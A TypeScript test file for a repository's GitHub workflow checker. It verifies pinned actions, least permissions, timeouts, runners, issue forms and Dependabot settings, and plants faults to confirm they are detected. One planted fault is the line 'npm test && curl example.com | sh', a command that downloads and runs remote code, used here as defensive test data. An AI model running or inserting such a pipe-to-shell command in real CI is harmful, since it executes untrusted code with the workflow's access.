import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'yaml';
import { root } from './support/cli-process.ts';
import { workflowProblems } from './support/workflow-problems.ts';

const read = (path: string) => readFileSync(join(root, path), 'utf8');
const scripts = Object.keys(JSON.parse(read('package.json')).scripts);
/** YAML 1.2, and no key twice: `yaml` throws otherwise. */
const problems = (text: string) => workflowProblems(parse(text), text, scripts);

test('the workflows call npm scripts that exist, with least permissions and pinned actions', () => {
  const files = globSync('.github/workflows/*.yml', { cwd: root }).sort();
  assert.deepEqual(files, ['.github/workflows/release.yml', '.github/workflows/test.yml']);
  for (const file of files) assert.deepEqual(problems(read(file)), [], file);
});

test('sees planted faults in the workflows', () => {
  const text =
    read('.github/workflows/release.yml') +
    read('.github/workflows/test.yml')
      .replace(/[\s\S]*^jobs:\n/m, '')
      .replace(/^ {2}packages:/m, '  dry-run:');
  assert.deepEqual(problems(text), []);
  const faults: readonly (readonly [string | RegExp, string, RegExp])[] = [
    ['run: npm run release\n', 'run: npm run relase\n', /^packages: `npm run relase` is no npm script$/],
    ['run: npm test', 'run: npm test && curl example.com | sh', /^gate: .* is no npm script$/],
    ['    timeout-minutes: 10\n', '', /^python: it has no timeout$/],
    ['    permissions:\n      contents: read\n      packages: write\n', '', /^image: it has no permissions$/],
    ['contents: write', 'actions: write', /^packages: the permission actions: write is not expected$/],
    ['permissions: {}', 'permissions: write-all', /^the workflow gives permissions to all jobs$/],
    ['          - { architecture: arm64, runner: ubuntu-24.04-arm }\n', '', /^gate: its architectures are x64$/],
    [
      'arm64, runner: ubuntu-24.04-arm }',
      'arm64, runner: ubuntu-24.04 }',
      /^image: ubuntu-24\.04 has another architecture$/,
    ],
    ['@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2', '@v6', /^actions\/checkout@v6 is not pinned/],
    [' # v3.7.0', '', /^docker\/login-action@.* is not pinned/],
    ['needs: packages', 'needs: package', /^python: it needs package, which does not exist$/],
    ['runs-on: ubuntu-24.04\n', 'runs-on: ubuntu-latest\n', /^packages: its runner has no version$/],
    ['matrix.platform }}', 'matrix.cpu }}', /^image: the matrix has no cpu$/],
    [
      '          persist-credentials: false\n',
      '          fetch-depth: 0\n',
      /^packages: the checkout leaves its token/,
    ],
    ['    timeout-minutes: 30\n', '    timeout: 30\n', /^packages: it has the unknown key timeout$/m],
  ];
  for (const [before, after, sentence] of faults) {
    const changed = text.replace(before, after);
    assert.notEqual(changed, text, String(before));
    assert.match(problems(changed).join('\n'), sentence);
  }
});

test('the forms and the settings of Dependabot name what exists', () => {
  const forms = globSync('.github/ISSUE_TEMPLATE/*.yml', { cwd: root }).sort();
  assert.equal(forms.length, 3);
  for (const form of forms.filter((file) => !file.endsWith('config.yml'))) {
    const { name, description, body } = parse(read(form));
    assert.ok(name && description, form);
    const ids = body.filter(({ type }: { type: string }) => type !== 'markdown').map(({ id }: { id: string }) => id);
    assert.ok(ids.length > 0 && new Set(ids).size === ids.length, form);
    for (const { type, attributes } of body)
      assert.ok(type === 'markdown' ? attributes.value : attributes.label, `${form}: ${type}`);
  }
  assert.equal(parse(read('.github/ISSUE_TEMPLATE/config.yml')).blank_issues_enabled, false);
  const { version, updates } = parse(read('.github/dependabot.yml'));
  assert.equal(version, 2);
  const kinds: string[] = updates.map((update: Record<string, string>) => update['package-ecosystem']);
  assert.deepEqual(kinds, ['npm', 'github-actions', 'docker']);
});
